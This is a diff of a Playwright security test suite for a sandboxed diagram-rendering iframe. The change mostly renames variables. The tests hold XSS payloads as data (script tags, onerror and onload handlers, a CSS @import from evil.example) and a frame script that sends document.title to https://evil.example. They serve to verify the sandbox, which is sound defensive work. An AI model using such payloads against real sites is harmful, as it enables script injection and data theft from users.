@@ -39,7 +39,7 @@ async function askForDiagrams(page: Page, ...sources: string[]): Promise<Locator
  * Builds a frame script that answers every request. `reply` is the source of a function that takes the request's id and
  * source and returns the messages to post.
  */
-const frameScript = (reply: string) => `
+const buildFrameScript = (reply: string) => `
   addEventListener("message", ({ ports: [port] }) => {
     port.onmessage = async ({ data: { id, source } }) => {
       for (const answer of await (${reply})(id, source)) port.postMessage(answer);
@@ -50,13 +50,13 @@ const frameScript = (reply: string) => `
 
 const svg = (inside: string) =>
   `<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 100 50" width="100" height="50">${inside}</svg>`;
-const drawnMessage = (inside: string, title = "") =>
+const buildDrawnMessage = (inside: string, title = "") =>
   `{ id, svg: ${JSON.stringify(svg(inside))}, title: ${JSON.stringify(title)}, description: "", isPartial: false }`;
 
 const frames = (page: Page) => page.locator("iframe");
 
 test("a compromised frame reaches neither cookies, storage, the page, the network nor another address", async () => {
-  const attempts = frameScript(`async (id) => {
+  const attemptsScript = buildFrameScript(`async (id) => {
       const got = [];
       const attempt = async (name, act) => {
         try { const value = await Promise.race([act(), new Promise((_, no) => setTimeout(no, 1500))]); if (value) got.push(name); } catch {}
@@ -84,7 +84,7 @@ test("a compromised frame reaches neither cookies, storage, the page, the networ
       return [{ id, svg: ${JSON.stringify(svg("<g/>"))}, title: "reached: " + got.join(), description: "", isPartial: false }];
     }`);
   // The expected violation is that of the nested frame that the script creates.
-  const { page, ran } = await openWithFrameScript(() => attempts, /^Executing inline script violates/);
+  const { page, ran } = await openWithFrameScript(() => attemptsScript, /^Executing inline script violates/);
   const answer = await askForDiagrams(page, "graph LR");
   await expectEventually(() => answer.getByRole("img", { name: "reached" }).getAttribute("alt")).toBe(
     "Diagram: reached: ",
@@ -101,37 +101,41 @@ test("a compromised frame reaches neither cookies, storage, the page, the networ
  * source.
  */
 const hostileReplies = [
-  { source: "script", reply: drawnMessage("<script>alert(1)</script><g onload='alert(1)'/>"), shown: "diagram" },
-  { source: "styles", reply: drawnMessage("<style>@import '//evil.example/x.css';</style>"), shown: "source" },
+  { source: "script", reply: buildDrawnMessage("<script>alert(1)</script><g onload='alert(1)'/>"), shown: "diagram" },
+  { source: "styles", reply: buildDrawnMessage("<style>@import '//evil.example/x.css';</style>"), shown: "source" },
   {
     source: "page",
     reply: `{ id, svg: "<html><body onload=alert(1)>", title: "", description: "", isPartial: false }`,
     shown: "source",
   },
-  { source: "title", reply: drawnMessage("<g/>", "<img src=//evil.example/x onerror=alert(1)>"), shown: "diagram" },
+  {
+    source: "title",
+    reply: buildDrawnMessage("<g/>", "<img src=//evil.example/x onerror=alert(1)>"),
+    shown: "diagram",
+  },
   {
     source: "number of another request",
-    reply: `{ id: 999, svg: "<svg/>", title: "", description: "", isPartial: false }, ${drawnMessage("<g/>")}`,
+    reply: `{ id: 999, svg: "<svg/>", title: "", description: "", isPartial: false }, ${buildDrawnMessage("<g/>")}`,
     shown: "diagram",
   },
   {
     source: "other messages",
-    reply: `null, "x", 1, [], { id }, { id, svg: 3 }, { id, problem: "x" }, ${drawnMessage("<g/>")}`,
+    reply: `null, "x", 1, [], { id }, { id, svg: 3 }, { id, problem: "x" }, ${buildDrawnMessage("<g/>")}`,
     shown: "diagram",
   },
 ];
 
 test("hostile pictures are harmless or not shown, and messages of other windows are ignored", async () => {
   const replies = hostileReplies.map(({ source, reply }) => `${JSON.stringify(source)}: [${reply}]`);
-  const script = frameScript(`(id, source) => ({ ${replies.join(", ")} })[source]`);
+  const script = buildFrameScript(`(id, source) => ({ ${replies.join(", ")} })[source]`);
   const { page, ran } = await openWithFrameScript(() => script);
   await page.evaluate(() => {
-    const given = window.postMessage.bind(window);
+    const originalPostMessage = window.postMessage.bind(window);
     // Imitate the frame's ready message every millisecond, so that it arrives before the real one.
-    setInterval(() => given("drawing-frame-ready", "*"), 1);
-    const heard: unknown[] = [];
-    Object.assign(window, { heard });
-    addEventListener("message", (event) => event.ports.length > 0 && heard.push(event.data));
+    setInterval(() => originalPostMessage("drawing-frame-ready", "*"), 1);
+    const heardMessages: unknown[] = [];
+    Object.assign(window, { heard: heardMessages });
+    addEventListener("message", (event) => event.ports.length > 0 && heardMessages.push(event.data));
   });
   const answer = await askForDiagrams(page, ...hostileReplies.map(({ source }) => source));
   const images = answer.getByRole("img", { name: /^Diagram/ });
@@ -142,8 +146,8 @@ test("hostile pictures are harmless or not shown, and messages of other windows 
   for (const image of await images.all()) {
     expect(await image.getAttribute("src")).toMatch(new RegExp(`^blob:${fixture.url}/`));
   }
-  const unsafe = answer.getByText("This diagram is not safe to show, so only its source is shown.");
-  await expectEventually(() => unsafe.count()).toBe(2);
+  const unsafeNotice = answer.getByText("This diagram is not safe to show, so only its source is shown.");
+  await expectEventually(() => unsafeNotice.count()).toBe(2);
   expect(await answer.getByRole("group", { name: "Code, Mermaid" }).allTextContents()).toEqual(["styles", "page"]);
   // A saved file may be opened as a page.
   for (const button of await answer.getByRole("button", { name: "Download", exact: true }).all()) {
@@ -164,17 +168,17 @@ test("hostile pictures are harmless or not shown, and messages of other windows 
 });
 
 test("a frame that navigates or repeatedly reports that it has started loses only its own drawing and gets no extra time", async () => {
-  const navigating = `addEventListener("message", () => { location.href = "https://evil.example/?" + document.title; });
+  const navigatingScript = `addEventListener("message", () => { location.href = "https://evil.example/?" + document.title; });
      parent.postMessage("drawing-frame-ready", "*");`;
-  const endless = `addEventListener("message", ({ ports: [port] }) => {
+  const endlessScript = `addEventListener("message", ({ ports: [port] }) => {
       port.onmessage = ({ data: { id } }) => setInterval(() => {
         port.postMessage({ id, isStarted: true });
         console.info("reported");
       }, 100);
     });
     parent.postMessage("drawing-frame-ready", "*");`;
-  const drawing = frameScript(`(id) => [${drawnMessage("<g/>")}]`);
-  const scripts = [navigating, endless, drawing];
+  const drawingScript = buildFrameScript(`(id) => [${buildDrawnMessage("<g/>")}]`);
+  const scripts = [navigatingScript, endlessScript, drawingScript];
   const { page } = await openWithFrameScript(
     () => scripts.shift() ?? "",
     /^Framing 'https:\/\/evil\.example\/' violates/,
@@ -206,9 +210,9 @@ test("only our own page may embed the frame's page, and its files are public", a
     expect(policy).toContain(directive);
   }
   expect(page.headers.get("x-frame-options")).toBe("SAMEORIGIN");
-  const home = (await fetch(fixture.url)).headers;
-  expect(home.get("content-security-policy")).toMatch(/frame-src 'self';.*frame-ancestors 'none'/);
-  expect(home.get("access-control-allow-origin")).toBeNull();
+  const homeHeaders = (await fetch(fixture.url)).headers;
+  expect(homeHeaders.get("content-security-policy")).toMatch(/frame-src 'self';.*frame-ancestors 'none'/);
+  expect(homeHeaders.get("access-control-allow-origin")).toBeNull();
   const [address = ""] = /\/drawing\/assets\/[^"]+\.js/.exec(await page.text()) ?? [];
   const script = await fetch(fixture.url + address);
   expect(script.headers.get("access-control-allow-origin")).toBe("*");
